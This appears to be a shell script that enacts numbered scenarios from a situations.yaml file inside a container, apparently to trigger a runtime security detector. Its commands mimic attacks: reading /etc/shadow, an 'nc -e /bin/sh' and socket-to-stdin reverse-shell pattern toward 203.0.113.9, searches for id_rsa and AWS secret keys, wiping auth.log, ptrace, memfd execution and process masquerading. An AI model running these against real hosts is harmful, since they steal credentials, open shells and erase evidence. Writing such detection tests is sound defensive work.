#!/bin/sh
# The situations of situations.yaml, each for real, run inside a container that has perl. Nothing
# leaves it: every address is its own.

case $(uname -m) in
  x86_64) ptrace=101 memfd_create=319 init_module=175 ;;
  *) ptrace=117 memfd_create=279 init_module=105 ;;
esac

# 02: a server that reads its secrets after a while
perl -e '$0 = "nginx"; sleep 3; open my $f, "<", "/etc/shadow"; 1' &
late=$!

# what connections go to, and a name server that knows one name
perl -e 'use Socket; my @s; for my $p (443, 8443) { socket my $s, PF_INET, SOCK_STREAM, 0;
  setsockopt $s, SOL_SOCKET, SO_REUSEADDR, 1; bind $s, pack_sockaddr_in($p, INADDR_ANY);
  listen $s, 9; push @s, $s } sleep 30' &
server=$!
perl -e 'use Socket; socket S, PF_INET, SOCK_DGRAM, 0; bind S, pack_sockaddr_in(53, INADDR_LOOPBACK);
  my $from = recv S, my $ask, 512, 0;
  send S, substr($ask, 0, 2) . pack("nnnnn", 0x8180, 1, 1, 0, 0) . substr($ask, 12)
    . pack("nnnNnC4", 0xc00c, 1, 1, 60, 4, 203, 0, 113, 9), 0, $from' &
names=$!
sleep 0.3

# 01
(cd /usr/share && perl -e 'open my $f, "<", "../../etc/hosts"; 1')

# 03
cat /etc/shadow > /dev/null

# 04
perl -e '$0 = "nginx"; system "sh", "-c", ":"; 1'

# 05
cp /usr/bin/perl /opt/sshd
setpriv --reuid 33 --clear-groups /opt/sshd -e 'system "id", "-u"; 1' > /dev/null

# 07
perl -e 'use Socket; socket S, PF_INET, SOCK_DGRAM, 0;
  connect S, pack_sockaddr_in(53, INADDR_LOOPBACK);
  send S, pack("nnnnnn", 7, 0x100, 1, 0, 0, 0)
    . join("", map { chr(length) . $_ } qw(kubernetes default svc cluster local)) . "\0"
    . pack("nn", 1, 1), 0;
  recv S, my $answer, 512, 0; select undef, undef, undef, 0.2;
  socket T, PF_INET, SOCK_STREAM, 0; connect T, pack_sockaddr_in(443, inet_aton("203.0.113.9"))'

# 08
cp /bin/true /opt/nc && /opt/nc -e /bin/sh 203.0.113.9 80

# 09
find /opt -name id_rsa

# 10
: > /var/log/auth.log

# 11
echo x > /tmp/data && shred -n 1 -u /tmp/data

# 12, 13
ln -s /etc/shadow /tmp/link
ln /etc/shadow /tmp/second

# 14
perl -e 'socket my $s, 17, 3, 0; 1'

# 15
perl -e 'use Socket; use POSIX; socket my $s, PF_INET, SOCK_STREAM, 0;
  connect $s, pack_sockaddr_in(443, inet_aton("203.0.113.9")); POSIX::dup2(fileno($s), 0)'

# 16: it is no module, which the kernel says
perl -e 'my $m = "none"; syscall('$init_module', $m, 4, my $p = "")'

# 18
echo true > /tmp/release_agent

# 19
perl -e 'syscall('$ptrace', 16, '$server', 0, 0)'

# 20
perl -e 'syscall('$ptrace', 0, 0, 0, 0)'

# 21
grep -r aws_secret_access_key /opt

# 22
cp /bin/true /dev/shm/x && /dev/shm/x

# 23
cp /bin/true /opt/brought && /opt/brought

# 24
cp /usr/bin/perl /opt/ssh
/opt/ssh -e 'use Socket; socket my $s, PF_INET, SOCK_STREAM, 0;
  connect $s, pack_sockaddr_in(8443, inet_aton("203.0.113.9"))'

# 25
perl -e 'my $n = "x"; my $fd = syscall('$memfd_create', $n, 0); open my $o, ">&=", $fd;
  binmode $o; open my $i, "<", "/bin/true"; binmode $i; local $/; my $p = <$i>; syswrite $o, $p;
  system {"/proc/$$/fd/$fd"} "x"'

wait $late
kill $server $names
exit 0
